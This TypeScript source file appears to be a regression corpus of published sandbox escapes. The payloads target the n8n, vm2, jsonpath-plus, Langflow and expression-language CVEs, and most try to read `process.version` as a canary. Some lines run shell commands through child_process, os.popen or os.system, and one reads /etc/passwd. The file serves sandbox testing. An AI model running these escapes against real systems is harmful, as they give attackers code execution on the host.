/**
 * Escapes from other products' sandboxes as they were published, each with `process.version` as what it is after: a value
 * that only the host has. Expressions are tried between `{{ }}` and as code, code as the body of a code node.
 */
export interface PublishedEscape {
  from: string;
  text: string;
}

const from = (source: string, ...texts: string[]): PublishedEscape[] => texts.map((text) => ({ from: source, text }));

export const EXPRESSION_ESCAPES: readonly PublishedEscape[] = [
  // The function's `this` is the global object of the server.
  ...from(
    'n8n CVE-2025-68613',
    '(function(){ return this.process.version })()',
    '(function(){ return this.process.mainModule.require("child_process").execSync("node -v").toString() })()',
    'this.constructor.constructor("return process")().version',
    '(() => { return this.process.version })()',
    'Object.constructor("return process.version")()',
    'Object.getPrototypeOf(() => 1).constructor("return process.version")()',
  ),
  // What looks for forbidden words looks at identifiers and quoted texts, not at template literals.
  ...from(
    'n8n CVE-2025-68613, past its first fix',
    '(() => 1)[`constructor`](`return process.version`)()',
    '({})[`const${"ructor"}`][`constructor`](`return process`)().version',
    '""[["constructor"]][["constructor"]]("return process.version")()',
    '[]["at"]["\\x63onstructor"]("return process.version")()',
    '[].at.c\\u006fnstructor("return process.version")()',
  ),
  // Taking a function apart reads its constructor without a member access; types say a key is text, values need not be.
  ...from(
    'n8n CVE-2026-25049',
    '(() => { const { constructor } = () => {}; return constructor("return process.version")() })()',
    '(({ constructor }) => constructor("return process.version")())(() => 1)',
    '[() => 1].map(({ constructor }) => constructor("return process.version")())',
    '[[].map].map(({ ["constructor"]: make }) => make("return process.version")())',
    '(({ constructor: { constructor } }) => constructor("return process.version")())([])',
    '[1].map((x, y, { constructor: c }) => c.constructor("return process.version")())',
    'trigger[{ toString: () => "constructor" }].constructor("return process.version")()',
    'trigger[["constructor"]]["constructor"]("return process.version")()',
    '(() => {}).constructor.prototype.constructor("return process.version")()',
  ),
  // The rewriting of free names forgets some places where a name may stand.
  ...from(
    'n8n CVE-2026-27577',
    '({ ...process }).version',
    '[{ ...process }].map((p) => p.version)',
    '[...[process]].at(0).version',
    '({ process }).process.version',
    '({ [process.version]: 1 })',
    '`${process.version}`',
    '(((x = process) => x.version))()',
    '[1].map((x = process.version) => x)',
    'process?.version',
    'typeof process === "undefined" ? globalThis.process.version : process.version',
    '({ ...globalThis }).process.version',
    '({ ...global.process }).version',
  ),
  // Names that the rewriting does not see, or that lead to the same functions by another way.
  ...from(
    'n8n CVE-2026-1470 and the reports after it',
    '(() => { with (() => {}) { return constructor("return process.version")() } })()',
    '(() => { var constructor = 1; with (Function) { return prototype.constructor("return process.version")() } })()',
    '$evaluateExpression("process.version")',
    '$jmespath({}, "process")',
    'extend(process, "version", [])',
    'extendOptional(process, "version")()',
    '(() => { try { null.x } catch ({ constructor: c }) { return c.constructor("return process.version")() } })()',
    '(function () { return arguments.callee.constructor("return process.version")() })()',
    '(function f() { return f.caller.constructor("return process.version")() })()',
    '(async () => 1)().constructor.constructor("return process.version")()',
    '(function* () {}).constructor("return process.version")().next().value',
    'Reflect.get(() => 1, "constructor")("return process.version")()',
    'Reflect.construct(Function, ["return process.version"])()',
    'Object.getOwnPropertyDescriptor(Function.prototype, "constructor").value("return process.version")()',
    '({}).__lookupGetter__("__proto__").constructor("return process.version")()',
    '({}).__defineGetter__("x", () => 1)',
    '({}).valueOf.call(null).process.version',
    'new Proxy({}, { get: (t, k, r) => r.constructor.constructor })[0]("return process.version")()',
    'DateTime.now().constructor.constructor("return process.version")()',
    'now.toISOString.constructor("return process.version")()',
    'Error.prepareStackTrace = (e, frames) => frames[0].getThis().process.version',
    'Object.defineProperty(Object.prototype, "polluted", { value: process.version })',
    'Object.prototype.polluted = process.version',
    'Array.prototype.map = (x) => process.version',
    'import("node:process").then((p) => p.version)',
    'require("node:process").version',
    'eval("process.version")',
    'setTimeout("process.version")',
    'String.raw`${process.version}`',
    'Function`return process.version```',
    'parseInt.constructor`return process.version```',
    'uuid.constructor("return process.version")()',
    'jsonPath.constructor("return process.version")()',
  ),
  // JSONPath and templates of others evaluate what stands in a filter as JavaScript.
  ...from(
    'jsonpath-plus CVE-2024-21534, CVE-2025-1302',
    'jsonPath(trigger, "$[?(this.process.version)]")',
    "jsonPath(trigger, \"$..[?(p=\\\"return process.version\\\";a=''[['constructor']][['constructor']](p);a())]\")",
    "jsonPath(trigger, \"$.[?(require('child_process').execSync('id'))]\")",
    'jsonPath(trigger, "$[(constructor.constructor(\'return process.version\')())]")',
  ),
  ...from(
    'Langflow CVE-2025-3248, CVE-2026-33017',
    "@exec(\"raise Exception(__import__('os').popen('id').read())\")\ndef x(): pass",
    'def x(y=exec("import os")): pass',
    '__import__("os").system("id")',
    '().__class__.__bases__[0].__subclasses__()',
    '[].__class__.__mro__[1].__subclasses__()[40]("/etc/passwd").read()',
    '[1].map((x = eval("process.version")) => x)',
    '(lambda: __builtins__)()',
  ),
  ...from(
    'AngularJS, Jexl, expr-eval CVE-2025-12735 and other small languages',
    '"a".constructor.prototype.charAt = [].join',
    '{}.toString().constructor.prototype.charAt',
    'trigger.constructor.assign(trigger, { polluted: process.version })',
    'toString.constructor.prototype.toString.constructor("return process.version")()',
    'a = trigger.constructor; b = a.constructor("return process.version")()',
    '[].reduce.call([1], [].constructor.constructor("return process.version"))',
    '[1].reduce(Function, "return process.version")()',
    '["return process.version"].map(Function)[0]()',
    '[].concat.constructor("return process.version").call()',
  ),
];

export const CODE_ESCAPES: readonly PublishedEscape[] = [
  ...from(
    'vm2 CVE-2019-10761: an error of the host where its stack ends',
    `const f = (depth) => { try { return f(depth + 1); } catch (error) { return error; } };
return f(0).constructor.constructor('return process')().version;`,
  ),
  ...from(
    'vm2 CVE-2021-23449: the promise of an import',
    `return import('./x.js').toString.constructor('return this')().process.version;`,
    `const { constructor } = import('node:fs'); return constructor.constructor('return process')().version;`,
  ),
  ...from(
    'vm2 CVE-2022-36067 (SandBreak): the frames of a stack',
    `const Old = Error; globalThis.Error = {};
globalThis.Error.prepareStackTrace = (_, frames) => frames[0].getThis().process.version;
return new Old().stack;`,
    `Error.prepareStackTrace = (_, frames) => frames.constructor.constructor('return process')().version;
return new Error().stack;`,
  ),
  ...from(
    'vm2 CVE-2023-29017: an error in a promise that nobody waits for',
    `Error.prepareStackTrace = (_, frames) => frames.constructor.constructor('return process')().version;
(async () => { null.x; })();
await null; try { null.x } catch (error) { return error.stack; }`,
  ),
  ...from(
    'vm2 CVE-2023-29199, CVE-2023-30547: an error out of a trap of a proxy',
    `const err = {};
const handler = { getPrototypeOf() { (function stack() { new Error().stack; stack(); })(); } };
try { throw new Proxy(err, handler); } catch ({ constructor: c }) { return c.constructor('return process')().version; }`,
    `const stack = () => { new Error().stack; stack(); };
try { stack(); } catch (error) { return error.constructor.constructor('return process')().version; }`,
  ),
  ...from(
    'vm2 CVE-2023-32314: a proxy in place of the error',
    `const err = new Error();
err.name = { toString: new Proxy(() => '', { apply(target, self, args) {
  return args.constructor.constructor('return process')().version;
} }) };
return err.stack + String(err);`,
  ),
  ...from(
    'vm2 CVE-2023-37466: the species of a promise',
    `async function fn() { (function stack() { new Error().stack; stack(); })(); }
const p = fn(); let loot;
p.constructor = { [Symbol.species]: class { constructor(executor) {
  executor((x) => x, (error) => { loot = error.constructor.constructor('return process')().version; });
} } };
p.then(); p.catch(() => 1); await null; await null; return loot;`,
  ),
  ...from(
    'vm2 CVE-2023-37903: what the host calls to show an object',
    `const object = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => {
  loot = inspect.constructor('return process')().version;
} };
let loot; console.log(object); console.error('%o', object); throw object;`,
    `const object = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) =>
  inspect.constructor('return process')().version, valueOf: undefined, constructor: undefined };
return WebAssembly.compileStreaming(object);`,
  ),
  ...from(
    'vm2 CVE-2026-22709: the promise of an async function',
    `const error = new Error(); error.name = Symbol();
const f = async () => error.stack; let loot;
await f().catch((thrown) => { loot = thrown.constructor.constructor('return process.version')(); });
return loot;`,
  ),
  ...from(
    'vm2 CVE-2026-45411: what an async generator waits for at its end',
    `async function* g() { yield* { [Symbol.asyncIterator]() { return this; }, next() { return { value: 1 }; },
  return() { return { then(resolve) { resolve(this.constructor.constructor('return process')().version); } }; } }; }
const it = g(); await it.next(); return (await it.return(1)).value;`,
  ),
  ...from(
    'vm2 CVE-2026-44008: an accessor on the prototype of lists',
    `let loot; Object.defineProperty(Array.prototype, 'constructor', { get() { loot = this; return Array; } });
[1].concat([2]); return loot.constructor.constructor('return process')().version;`,
    `Object.defineProperty(Object.prototype, 'x', { get() { return this.constructor.constructor('return process')().version; } });
return ({}).x;`,
  ),
  ...from(
    'n8n CVE-2026-27495, CVE-2026-0863 and code nodes of others',
    `return process.binding('fs');`,
    `return globalThis.constructor.constructor('return process')().version;`,
    `return Function.prototype.constructor.call(null, 'return process.version')();`,
    `return console.log.constructor('return process.version')();`,
    `return console.constructor.constructor('return process.version')();`,
    `return (0, eval)('process.version');`,
    `return [..."x"].map(Function.bind(null, 'return process.version'))[0]();`,
    `return Reflect.construct(Function, ['return process.version'])();`,
    `return Reflect.ownKeys(globalThis).map((key) => globalThis[key]?.version).filter(Boolean);`,
    `return new Function('return this')().process.version;`,
    `return Array.fromAsync ? (await Array.fromAsync([1], Function('return process.version'))) : process.version;`,
    `return require('module')._load('child_process').execSync('id').toString();`,
    `return new Worker('return process.version');`,
    `return new SharedArrayBuffer(8).constructor.constructor('return process.version')();`,
    `return Atomics.constructor.constructor('return process.version')();`,
    `return JSON.parse('{"__proto__":{"version":1}}').constructor.constructor('return process.version')();`,
    `return structuredClone(() => 1).constructor('return process.version')();`,
    `}); return process.version; (() => {`,
    `}}); globalThis.process.version; ((x) => {{`,
  ),
];
